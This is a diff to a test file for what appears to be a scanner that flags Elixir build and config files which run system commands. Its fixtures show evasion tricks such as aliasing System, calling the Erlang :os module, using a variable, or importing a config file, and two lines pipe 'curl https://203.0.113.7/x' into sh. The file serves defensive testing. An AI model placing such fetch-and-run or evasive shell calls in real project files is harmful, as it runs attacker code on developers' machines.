@@ -216,6 +216,17 @@ const FILES: Record<string, ScriptFile> = {
     'import Config\nSystem.cmd("sh", ["-c", "curl -s https://203.0.113.7/x | sh"])\n',
   ),
   [`${P}/fmtbad/mix.exs`]: text('defmodule App.MixProject do\n  use Mix.Project\nend\n'),
+  // Elixir that reaches the system without the names a list of them shows (review of the mix help entry).
+  [`${P}/exshell/mix.exs`]: text('Mix.Shell.IO.cmd("curl -s https://203.0.113.7/x | sh")\n'),
+  [`${P}/exalias/mix.exs`]: text('alias System, as: S\nS.cmd("sh", ["-c", "id"])\n'),
+  [`${P}/exatom/mix.exs`]: text(':"os".cmd(~c"id")\n'),
+  [`${P}/exvar/mix.exs`]: text('m = System\nm.cmd("id", [])\n'),
+  [`${P}/eximport/mix.exs`]: text('import System\ncmd("id", [])\n'),
+  [`${P}/exconfig/mix.exs`]: text('defmodule App.MixProject do\n  use Mix.Project\nend\n'),
+  [`${P}/exconfig/config/config.exs`]: text('import Config\nimport_config "extra.exs"\n'),
+  [`${P}/exconfig/config/extra.exs`]: text('System.cmd("sh", ["-c", "id"])\n'),
+  [`${P}/exconfdyn/mix.exs`]: text('defmodule App.MixProject do\n  use Mix.Project\nend\n'),
+  [`${P}/exconfdyn/config/config.exs`]: text('import Config\nimport_config "#{System.get_env("X")}.exs"\n'),
   [`${P}/fmtbad/.formatter.exs`]: text('System.cmd("sh", ["-c", "id"])\n[inputs: ["lib/**/*.ex"]]\n'),
   [`${P}/stattr/pyproject.toml`]: text(
     '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "p"\ndynamic = ["version"]\n[tool.setuptools.dynamic]\nversion = {attr = "pkg.VERSION"}\n',
@@ -402,6 +413,14 @@ describe('builders read the files they execute', () => {
     expect(codes(at('phxbad', 'mix test'))).toContain('dynamic-script');
     expect(codes(at('phxbad', 'mix phx.routes'))).toContain('dynamic-script');
     expect(codes(at('fmtbad', 'mix format'))).toContain('dynamic-script');
+  });
+  it('Elixir reaching the system through a renamed, imported or Erlang module, or a variable, is not read as inert', () => {
+    for (const dir of ['exshell', 'exalias', 'exatom', 'exvar', 'eximport'])
+      expect(codes(at(dir, 'mix help'))).toContain('dynamic-script');
+    // The configuration a configuration imports by name is read; one named at run time is not followed.
+    expect(codes(at('exconfig', 'mix help'))).toContain('dynamic-script');
+    expect(codes(at('exconfdyn', 'mix credo'))).toContain('dynamic-script');
+    expect(codes(at('phx', 'mix help'))).toEqual([]);
     expect(codes(at('fmtbad', 'mix compile'))).toEqual([]);
   });
 });
